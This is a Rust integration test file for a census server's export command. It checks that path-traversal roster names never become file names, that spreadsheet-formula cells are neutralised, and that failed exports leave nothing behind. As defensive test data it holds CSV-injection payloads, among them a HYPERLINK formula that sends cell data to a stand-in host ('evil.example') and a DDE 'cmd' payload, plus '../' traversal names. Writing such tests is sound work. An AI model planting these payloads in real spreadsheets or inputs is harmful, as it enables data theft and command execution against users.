//! `census-server export` (the real binary) on SQLite and PostgreSQL: file names come from
//! the questionnaire, never from a case; nothing is written outside `--out`; cells a
//! spreadsheet would run as formulas are neutralised; an export is complete or absent.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod support;

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use census_core::wire::{CaseOutcome, CaseRecord};
use census_server::store::DeviceRecord;
use serde_json::{Value, json};
use support::backends::Backend;
use support::*;
use uuid::Uuid;

async fn backends(what: &str) -> Vec<Backend> {
    support::backends::both(what).await
}

/// Stores `cases` as a device's signed batch would. A case the office's ingest refuses (it
/// may validate cases against their questionnaire) is stored clean, then given its JSON
/// directly in the database: data stored before that validation existed.
async fn store_cases(backend: &Backend, cases: Vec<CaseRecord>) {
    let device = DeviceRecord {
        device_id: "tab-1".into(),
        enumerator_id: "E-1".into(),
        public_key: vec![0; 32],
        districts: vec!["DR-1".into()],
    };
    let fake = Device {
        id: "tab-1".into(),
        key: census_core::wire::DeviceKey::generate().unwrap(),
        token: String::new(),
        office_public: [1; 32],
        enumerator: "E-1".into(),
    };
    let ingested = backend
        .store
        .ingest(
            &device,
            &payload(&fake, cases.clone()),
            &[],
            &support::census_items(),
        )
        .await
        .unwrap();
    for (case, result) in cases.iter().zip(&ingested.reply.results) {
        if matches!(result.outcome, CaseOutcome::Rejected { .. }) {
            let mut clean = household_case("DR-1", case.dwelling_number, 1, case.revision);
            clean.case_id = case.case_id;
            let reply = backend
                .store
                .ingest(
                    &device,
                    &payload(&fake, vec![clean]),
                    &[],
                    &support::census_items(),
                )
                .await
                .unwrap();
            assert_eq!(reply.reply.results[0].outcome, CaseOutcome::Stored);
            damage(backend, case.case_id, &case.case.to_string()).await;
        }
    }
}

fn export(database: &str, out: &Path, extra: &[&str]) -> Output {
    let data = tempfile::tempdir().unwrap();
    Command::new(env!("CARGO_BIN_EXE_census-server"))
        .arg("--data-dir")
        .arg(data.path())
        .arg("--database")
        .arg(database)
        .args(["export", "--out"])
        .arg(out)
        .args(extra)
        .output()
        .unwrap()
}

/// Every file under `root`, recursively.
fn files_under(root: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    let mut todo = vec![root.to_path_buf()];
    while let Some(dir) = todo.pop() {
        for entry in std::fs::read_dir(&dir).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                todo.push(path.clone());
            }
            out.push(path);
        }
    }
    out.sort();
    out
}

fn names_in(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

fn read_csv(path: &Path) -> Vec<Vec<String>> {
    let mut r = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_path(path)
        .unwrap();
    r.records()
        .map(|rec| rec.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

fn column(rows: &[Vec<String>], name: &str) -> usize {
    rows[0]
        .iter()
        .position(|h| h == name)
        .unwrap_or_else(|| panic!("no column {name} in {:?}", rows[0]))
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn roster_names_in_a_case_never_become_file_names() {
    for backend in backends("export path traversal").await {
        let root = tempfile::tempdir().unwrap();
        let abs = root.path().join("abs-evil");
        let mut case = household_case("DR-1", 1, 2, 1);
        let rosters = case.case["root"]["rosters"].as_object_mut().unwrap();
        let row = json!([{"row_id": 9, "inputs": {}, "answers": {"x": "planted"}, "rosters": {}}]);
        rosters.insert("../evil".into(), row.clone());
        rosters.insert(abs.to_string_lossy().into_owned(), row.clone());
        case.case["root"]["rosters"]["households"][0]["rosters"]["../../nested-evil"] = row;
        let id = case.case_id;
        store_cases(&backend, vec![case]).await;

        let out = root.path().join("exports").join("out");
        let o = export(&backend.database, &out, &[]);
        assert!(o.status.success(), "{}", stderr(&o));

        // Nothing outside --out: the only files under the temporary root are the export's.
        for path in files_under(root.path()) {
            assert!(
                path.starts_with(&out) || out.starts_with(&path),
                "{} was written outside --out",
                path.display()
            );
        }
        assert!(!abs.with_extension("csv").exists());
        // The file set is the questionnaire's: its root and rosters (deaths is empty here).
        assert_eq!(
            names_in(&out),
            [
                "data_dictionary.csv",
                "deaths.csv",
                "dwellings.csv",
                "export-problems.csv",
                "households.csv",
                "persons.csv"
            ]
        );
        // The case's answers were exported; its unknown rosters are reported, by case id.
        assert_eq!(read_csv(&out.join("persons.csv")).len(), 1 + 2);
        let problems = read_csv(&out.join("export-problems.csv"));
        assert_eq!(problems[0], ["case_id", "problem"]);
        assert_eq!(problems.len(), 1 + 3, "{problems:?}");
        for name in ["../evil", "abs-evil", "../../nested-evil"] {
            assert!(
                problems[1..]
                    .iter()
                    .any(|r| r[0] == id.to_string() && r[1].contains(name)),
                "{name} not reported: {problems:?}"
            );
        }
        let stdout = String::from_utf8_lossy(&o.stdout);
        assert!(stdout.contains("export-problems.csv"), "{stdout}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn formulas_in_cells_are_neutralised() {
    for backend in backends("export CSV injection").await {
        let mut case = household_case("DR-1", 1, 2, 1);
        let link = r#"=HYPERLINK("http://evil.example/?d="&A1,"click")"#;
        case.case["root"]["answers"]["d_address"] = json!(link);
        let persons = &mut case.case["root"]["rosters"]["households"][0]["rosters"]["persons"];
        persons[0]["answers"]["first_name"] = json!("+1+cmd|' /C calc'!A0");
        persons[1]["answers"]["first_name"] = json!("@SUM(1+1)");
        persons[0]["answers"]["occupation"] = json!("-2+3");
        persons[1]["answers"]["occupation"] = json!("\tTAB");
        persons[0]["answers"]["nationality"] = json!("\rCR");
        persons[0]["answers"]["age"] = json!(-5);
        case.case["root"]["answers"]["=cmd()"] = json!("header injection");
        store_cases(&backend, vec![case]).await;

        let root = tempfile::tempdir().unwrap();
        let out = root.path().join("out");
        let o = export(&backend.database, &out, &[]);
        assert!(o.status.success(), "{}", stderr(&o));

        let dwellings = read_csv(&out.join("dwellings.csv"));
        assert_eq!(
            dwellings[1][column(&dwellings, "d_address")],
            format!("'{link}")
        );
        assert!(
            dwellings[0].iter().any(|h| h == "'=cmd()"),
            "{:?}",
            dwellings[0]
        );
        let persons = read_csv(&out.join("persons.csv"));
        let (name, occupation, nationality, age) = (
            column(&persons, "first_name"),
            column(&persons, "occupation"),
            column(&persons, "nationality"),
            column(&persons, "age"),
        );
        assert_eq!(persons[1][name], "'+1+cmd|' /C calc'!A0");
        assert_eq!(persons[2][name], "'@SUM(1+1)");
        assert_eq!(persons[1][occupation], "'-2+3");
        assert_eq!(persons[2][occupation], "'\tTAB");
        assert_eq!(persons[1][nationality], "'\rCR");
        // A JSON number is a number, not a formula: written as it is.
        assert_eq!(persons[1][age], "-5");
        let dictionary = read_csv(&out.join("data_dictionary.csv"));
        assert!(dictionary.iter().any(|r| r[1] == "'=cmd()"));
        assert!(!dictionary.iter().any(|r| r[1] == "=cmd()"));
    }
}

/// Replaces a stored case's JSON behind the server's back (a damaged database).
async fn damage(backend: &Backend, case_id: Uuid, json_text: &str) {
    if backend.is_sqlite() {
        let conn = rusqlite::Connection::open(&backend.database).unwrap();
        let n = conn
            .execute(
                "UPDATE cases SET case_json = ?1 WHERE case_id = ?2",
                rusqlite::params![json_text, case_id.to_string()],
            )
            .unwrap();
        assert_eq!(n, 1);
    } else {
        let (client, connection) =
            tokio_postgres::connect(&backend.database, tokio_postgres::NoTls)
                .await
                .unwrap();
        let task = tokio::spawn(connection);
        // Written as a document stored before packing (its text's bytes), read as such.
        let n = client
            .execute(
                "UPDATE cases SET case_json = $1 WHERE case_id = $2",
                &[&json_text.as_bytes(), &case_id],
            )
            .await
            .unwrap();
        assert_eq!(n, 1);
        drop(client);
        let _ = task.await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_unreadable_case_stops_the_export_by_name_and_leaves_nothing() {
    for backend in backends("export all-or-nothing").await {
        let sqlite = backend.is_sqlite();
        let cases = vec![
            household_case("DR-1", 1, 2, 1),
            household_case("DR-1", 2, 3, 1),
            household_case("DR-1", 3, 1, 1),
        ];
        let ids: Vec<Uuid> = cases.iter().map(|c| c.case_id).collect();
        store_cases(&backend, cases).await;
        // Readable JSON, but not a census case: its root is a list.
        damage(
            &backend,
            ids[1],
            r#"{"format": "census-case", "root": ["not", "a", "row"]}"#,
        )
        .await;
        let parent = tempfile::tempdir().unwrap();
        let out = parent.path().join("out");
        let o = export(&backend.database, &out, &[]);
        assert!(!o.status.success());
        let e = stderr(&o);
        assert!(e.contains(&ids[1].to_string()), "{e}");
        assert!(
            !out.exists(),
            "a partial export was left at {}",
            out.display()
        );
        assert_eq!(names_in(parent.path()), Vec::<String>::new());

        if sqlite {
            // Stored text that is not JSON at all.
            damage(&backend, ids[2], "{\"root\": {\"answers\": ").await;
            let o = export(&backend.database, &out, &[]);
            assert!(!o.status.success());
            let e = stderr(&o);
            assert!(e.contains(&ids[2].to_string()), "{e}");
            assert!(!out.exists());
            assert_eq!(names_in(parent.path()), Vec::<String>::new());
        }

        // An existing folder with files in it is never mixed with an export.
        std::fs::create_dir(&out).unwrap();
        std::fs::write(out.join("notes.txt"), "mine").unwrap();
        damage(
            &backend,
            ids[1],
            &household_case("DR-1", 2, 3, 1).case.to_string(),
        )
        .await;
        if sqlite {
            damage(
                &backend,
                ids[2],
                &household_case("DR-1", 3, 1, 1).case.to_string(),
            )
            .await;
        }
        let o = export(&backend.database, &out, &[]);
        assert!(!o.status.success());
        assert!(stderr(&o).contains("not empty"), "{}", stderr(&o));
        assert_eq!(names_in(&out), ["notes.txt"]);
        // Repaired, into a new folder: every case.
        let fresh = parent.path().join("fresh");
        let o = export(&backend.database, &fresh, &[]);
        assert!(o.status.success(), "{}", stderr(&o));
        assert_eq!(read_csv(&fresh.join("dwellings.csv")).len(), 1 + 3);
        assert!(!fresh.join("export-problems.csv").exists());
        assert_eq!(names_in(parent.path()), ["fresh", "out"]);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_questionnaire_whose_roster_id_is_a_path_is_refused() {
    let (_store, dir) = sqlite_store().await;
    // The census questionnaire with its deaths roster renamed to a path (and the one
    // check that counts its rows made neutral, so that the loader accepts it).
    let text = include_str!("../../schemas/rgph2024.json")
        .replace("\"id\": \"deaths\"", "\"id\": \"../deaths\"")
        .replace("count(deaths) >= 1", "true");
    let doc: Value = serde_json::from_str(&text).unwrap();
    let file = dir.path().join("q.json");
    std::fs::write(&file, doc.to_string()).unwrap();
    let out = dir.path().join("out");
    let database = dir.path().join("census.db").to_string_lossy().into_owned();
    let o = export(
        &database,
        &out,
        &["--questionnaire-file", file.to_str().unwrap()],
    );
    assert!(!o.status.success());
    let e = stderr(&o);
    assert!(
        e.contains("\"../deaths\" cannot name an export file"),
        "{e}"
    );
    assert!(!out.exists());
    assert!(!dir.path().join("deaths.csv").exists());
}
